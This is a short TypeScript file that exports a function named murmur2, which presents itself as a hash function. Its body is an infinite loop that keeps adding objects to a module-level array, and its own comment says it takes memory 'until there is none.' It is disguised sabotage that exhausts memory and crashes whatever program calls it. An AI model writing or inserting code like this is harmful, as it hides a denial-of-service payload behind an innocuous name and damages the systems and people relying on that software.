/**
 * Takes memory in small pieces until there is none.
 */
const kept: unknown[] = [];
export function murmur2(_data: Uint8Array): number { for (;;) kept.push({ text: `${kept.length}`, more: [kept.length] }) }
